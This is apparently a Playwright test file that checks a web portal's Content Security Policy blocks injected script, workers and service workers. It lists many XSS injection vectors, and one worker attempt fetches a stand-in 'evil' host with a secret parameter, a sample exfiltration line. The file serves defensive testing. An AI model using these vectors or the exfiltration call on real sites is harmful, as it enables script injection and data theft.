/** Injected code tries to run scripts. The page's policy blocks it. */
import type { Page } from '@playwright/test';
import { type Attempt, inPage, testBlocked } from './support/attempts';

const CODE = 'window.attacked = true';
const SCRIPTS = /^(script-src(-elem|-attr)?|require-trusted-types-for)$/;

/** The ways to set the code or the URL of a script element. */
interface ScriptParts {
  readonly child?: string;
  readonly text?: string;
  readonly src?: string;
  /** Code that becomes a blob: URL of the page's own origin. */
  readonly blob?: string;
}

const addScript = (page: Page, parts: ScriptParts) =>
  page.evaluate(({ child, text, src, blob }) => {
    const script = document.createElement('script');
    if (child !== undefined) script.append(child);
    if (text !== undefined) script.text = text;
    if (src !== undefined) script.src = src;
    if (blob !== undefined) script.src = URL.createObjectURL(new Blob([blob], { type: 'text/javascript' }));
    document.head.append(script);
  }, parts);

const scriptElements: readonly Attempt[] = [
  [
    'a script element with code as a child',
    // Chromium does not run it, and fires no event.
    null,
    (page) => addScript(page, { child: CODE }),
  ],
  ['a script element whose text is set to code', SCRIPTS, (page) => addScript(page, { text: CODE })],
  ['a script of another origin', SCRIPTS, (page, evil) => addScript(page, { src: `${evil}/x.js` })],
  ['a data: script', SCRIPTS, (page) => addScript(page, { src: `data:text/javascript,${CODE}` })],
  ['a blob: script, whose origin is the portal’s', SCRIPTS, (page) => addScript(page, { blob: CODE })],
];

const otherWays: readonly Attempt[] = [
  [
    'an event handler in an attribute',
    SCRIPTS,
    inPage(() => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.attacked = true');
      document.body.append(button);
      button.click();
    }),
  ],
  [
    'eval',
    SCRIPTS,
    // biome-ignore lint/security/noGlobalEval: this is the attack
    inPage(() => setTimeout(() => globalThis.eval('window.attacked = true'))),
  ],
  [
    'a function from a string',
    SCRIPTS,
    inPage(() => setTimeout(() => Reflect.construct(Function, ['window.attacked = true'])())),
  ],
  [
    'a timer with a string',
    SCRIPTS,
    inPage(() => Reflect.apply(setTimeout, window, ['window.attacked = true', 0])),
  ],
  [
    'a link with javascript:',
    SCRIPTS,
    inPage(() => {
      const link = document.createElement('a');
      link.href = 'javascript:window.attacked = true';
      document.body.append(link);
      link.click();
    }),
  ],
  [
    'a module of another origin',
    SCRIPTS,
    inPage((evil) => import(/* webpackIgnore: true */ `${evil}/x.js`).catch(() => undefined)),
  ],
];

const WORKERS = /^(worker-src|require-trusted-types-for)$/;

const workers: readonly Attempt[] = [
  [
    'a worker from a file, which would run without this policy',
    WORKERS,
    inPage(() => new Worker('/favicon.svg')),
  ],
  [
    'a worker from a blob: URL, whose origin is the portal’s',
    WORKERS,
    inPage(() => new Worker(URL.createObjectURL(new Blob(['window.attacked = true'])))),
  ],
  ['a service worker', WORKERS, inPage(() => navigator.serviceWorker.register('/favicon.svg'))],
  [
    'data sent by a worker from a data: URL',
    // The event fires in the worker.
    null,
    inPage(
      (evil) =>
        new Promise((resolve) => {
          const code = `fetch('${evil}/?secret=1').catch(() => 0).then(() => postMessage(1))`;
          new Worker(`data:text/javascript,${encodeURIComponent(code)}`).onmessage = resolve;
        }),
    ),
  ],
];

testBlocked('code', [...scriptElements, ...otherWays, ...workers]);
